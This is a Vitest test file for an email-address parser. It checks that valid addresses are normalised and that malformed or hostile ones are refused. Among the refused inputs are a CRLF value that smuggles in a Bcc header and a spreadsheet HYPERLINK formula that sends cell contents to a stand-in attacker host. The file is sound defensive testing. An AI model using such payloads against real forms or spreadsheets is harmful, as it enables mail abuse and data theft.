import { describe, expect, it } from "vitest";
import { parseEmailAddress } from "~/lib/server/email-address.server";

describe("parseEmailAddress", () => {
  it.each([
    [" Ana.Perez@Example.COM ", "ana.perez@example.com"],
    ["o'brien+avisos@example.com.ar", "o'brien+avisos@example.com.ar"],
    ["x_y-z@sub.example.org", "x_y-z@sub.example.org"],
    ["pepa@Ñandú.Example", "pepa@xn--and-6ma2c.example"],
    ["hans@MÜLLER.de", "hans@xn--mller-kva.de"],
    ["ana@ｅｘａｍｐｌｅ。com", "ana@example.com"],
    [`${"a".repeat(64)}@example.com`, `${"a".repeat(64)}@example.com`],
  ])("reads %j as the bare address %j", (typed, address) => {
    expect(parseEmailAddress(typed)).toBe(address);
  });

  it.each([
    ["a display name", "a<victim@example.com>"],
    ["a quoted display name", '"c"<victim@example.com>'],
    ["a comment after the mailbox", "victim(1)@example.com"],
    ["a comment before the mailbox", "(3)victim@example.com"],
    ["a quoted mailbox", '"victim"@example.com'],
    ["a group", "d:victim@example.com;"],
    ["a list", "x,victim@example.com"],
    ["relay routing with %", "a%00b@example.com"],
    ["relay routing with !", "host!victim@example.com"],
    ["a NUL", "a\u0000b@example.com"],
    ["a line break", "a\r\nBcc: x@example.com"],
    ["a tab inside", "a\tb@example.com"],
    ["a formula", "=1+2@x.co"],
    ["a spreadsheet link", '=HYPERLINK("https://evil.example/?"&A2&A3&"@x.y","Ver")'],
    ["a leading plus", "+1@example.com"],
    ["a leading hyphen", "-a@example.com"],
    ["a second @", "a@b@example.com"],
    ["no mailbox", "@example.com"],
    ["no domain", "ana@"],
    ["a bare host", "ana@localhost"],
    ["an IP address", "ana@192.168.0.1"],
    ["an address literal", "ana@[192.168.0.1]"],
    ["two dots", "a..b@example.com"],
    ["a leading dot", ".a@example.com"],
    ["a trailing dot in the mailbox", "a.@example.com"],
    ["an empty label", "a@example..com"],
    ["a label starting with a hyphen", "a@-example.com"],
    ["a space", "ana perez@example.com"],
    ["a query after the domain", "ana@example.com?subject=x"],
    ["a path after the domain", "ana@example.com/x"],
    ["a fragment after the domain", "ana@example.com#x"],
    ["a port", "ana@example.com:25"],
    ["a non-ASCII mailbox", "josé@example.com"],
    ["a mailbox over 64 characters", `${"a".repeat(65)}@example.com`],
    ["an address over 254 characters", `a@${"b".repeat(63)}.${"c".repeat(63)}.${"d".repeat(63)}.${"e".repeat(63)}.com`],
    [
      "255 characters, one past SMTP's path",
      `${"a".repeat(64)}@${"b".repeat(63)}.${"c".repeat(63)}.${"d".repeat(58)}.com`,
    ],
    ["a control character in the mailbox", "ana\u0001@example.com"],
    ["a C1 control character in the domain", "ana@exam\u0085ple.com"],
    ["no mailbox", "@example.com"],
    ["a numeric top-level label", "ana@example.12"],
    ["a one-digit top-level label", "ana@example.1"],
    ["a label ending with a hyphen", "ana@example-.com"],
  ])("refuses %s (%j)", (_, typed) => {
    expect(parseEmailAddress(typed)).toBeNull();
  });

  it.each([
    [
      "254 characters, SMTP's whole path",
      `${"a".repeat(64)}@${"b".repeat(63)}.${"c".repeat(63)}.${"d".repeat(57)}.com`,
    ],
    ["a one-letter mailbox", "a@example.com"],
    ["a one-letter label", "ana@a.example.com"],
    ["dotted words in the mailbox", "ana.bb.cc@example.com"],
    ["digits in a middle label", "ana@mail.123.example"],
    ["a top-level label ending with a digit", "ana@example.com2"],
    ["a top-level label starting with a digit", "ana@example.2com"],
  ])("accepts %s", (_, typed) => {
    expect(parseEmailAddress(typed)).toBe(typed.toLowerCase());
  });
});
